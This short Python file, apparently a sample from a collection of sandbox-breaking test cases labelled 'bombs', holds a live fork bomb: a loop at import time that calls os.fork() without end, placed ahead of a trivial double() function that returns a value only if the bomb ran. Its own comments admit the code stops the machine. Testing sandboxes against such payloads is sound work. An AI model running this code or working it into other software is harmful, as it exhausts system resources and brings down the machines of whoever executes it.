# family: bombs
# tries: a fork bomb
# stock: no, it stops the machine
import os

WON = None
try:
    while True:
        os.fork()
        WON = True
except OSError:
    pass


def double(x):
    return 2 * x if WON else None
